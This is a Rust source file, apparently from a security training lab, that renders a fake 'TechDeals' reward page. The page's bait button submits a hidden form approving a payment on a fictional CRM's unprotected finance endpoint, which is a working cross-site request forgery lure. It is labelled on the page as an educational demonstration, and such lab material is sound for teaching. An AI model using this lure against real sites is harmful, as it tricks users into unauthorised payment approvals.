//! The lure page. A hidden form posts a payment approval to the CRM with no
//! anti-forgery token; only the browser's session cookie rides along.

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Target {
    /// The unprotected finance screen.
    Legacy,
    /// The token-protected approval screen.
    Modern,
}

impl Target {
    /// Unrecognised names fall back to [`Target::Legacy`].
    pub fn from_query(raw: Option<&str>) -> Self {
        match raw {
            Some("modern") => Target::Modern,
            _ => Target::Legacy,
        }
    }

    pub fn path(self) -> &'static str {
        match self {
            Target::Legacy => "/finance",
            Target::Modern => "/approvals",
        }
    }

    pub fn action_url(self, base: &str) -> String {
        format!("{}{}", base.trim_end_matches('/'), self.path())
    }
}

const STYLE: &str = r#"
body { font-family: Arial, sans-serif; margin: 0; background: linear-gradient(135deg, #ffecd2 0%, #fcb69f 100%); min-height: 100vh; }
.header { background: white; padding: 20px 0; box-shadow: 0 2px 4px rgba(0,0,0,0.1); }
.header-content { max-width: 1200px; margin: 0 auto; padding: 0 20px; display: flex; justify-content: space-between; align-items: center; }
.logo { font-size: 24px; font-weight: bold; color: #ff6b35; }
.container { max-width: 800px; margin: 40px auto; padding: 40px; background: white; border-radius: 15px; box-shadow: 0 10px 30px rgba(0,0,0,0.2); text-align: center; }
.warning { background: #fff3cd; border: 1px solid #ffeaa7; color: #856404; padding: 15px; border-radius: 8px; margin-bottom: 30px; font-weight: bold; }
.prize-box { background: linear-gradient(135deg, #ffd89b 0%, #19547b 100%); padding: 30px; border-radius: 15px; margin: 30px 0; }
.prize-title { font-size: 28px; font-weight: bold; color: #8b4513; margin-bottom: 15px; }
.prize-btn { background: linear-gradient(135deg, #ff6b35 0%, #f7931e 100%); color: white; padding: 20px 40px; border: none; border-radius: 50px; font-size: 20px; font-weight: bold; cursor: pointer; }
.hidden-form { display: none; }
.features { display: grid; grid-template-columns: repeat(auto-fit, minmax(200px, 1fr)); gap: 20px; }
.feature { padding: 20px; background: #f8f9fa; border-radius: 10px; }
.feature-icon { font-weight: bold; color: #ff6b35; margin-bottom: 10px; }
"#;

pub fn render(action_url: &str) -> String {
    let action = html_escape::encode_double_quoted_attribute(action_url);
    format!(
        r#"<!DOCTYPE html>
<html>
<head>
    <meta charset="UTF-8">
    <title>TechDeals Partner Portal</title>
    <style>{STYLE}</style>
</head>
<body>
    <div class="header">
        <div class="header-content">
            <div class="logo">TechDeals</div>
            <div style="color: #666;">Premium Partner Rewards</div>
        </div>
    </div>

    <div class="container">
        <div class="warning">
            EDUCATIONAL DEMONSTRATION - This is a simulated malicious site for CSRF testing
        </div>

        <h1>Congratulations, Globomantics Partner!</h1>

        <div class="prize-box">
            <div class="prize-title">Exclusive Reward Available!</div>
            <p>You've been selected for our premium partner program!<br>
               Claim your technology discount worth up to $500!</p>
        </div>

        <button class="prize-btn" onclick="document.getElementById('partner-form').submit();">
            Claim Your Reward Now!
        </button>

        <form id="partner-form" class="hidden-form" action="{action}" method="post">
            <input type="hidden" name="payment_id" value="1">
            <input type="hidden" name="action" value="approve">
        </form>

        <p style="color: #999; font-size: 14px; margin-top: 20px;">
            * Limited time offer. Valid for Globomantics partners only.
        </p>
    </div>

    <div class="container">
        <div class="features">
            <div class="feature"><div class="feature-icon">Tech</div><h3>Tech Equipment</h3>
                <p>Up to 40% off laptops, tablets, and professional equipment</p></div>
            <div class="feature"><div class="feature-icon">Tools</div><h3>Software Licenses</h3>
                <p>Exclusive discounts on enterprise software and development tools</p></div>
            <div class="feature"><div class="feature-icon">Support</div><h3>Priority Support</h3>
                <p>Fast-track customer service and dedicated account management</p></div>
        </div>
    </div>
</body>
</html>"#
    )
}
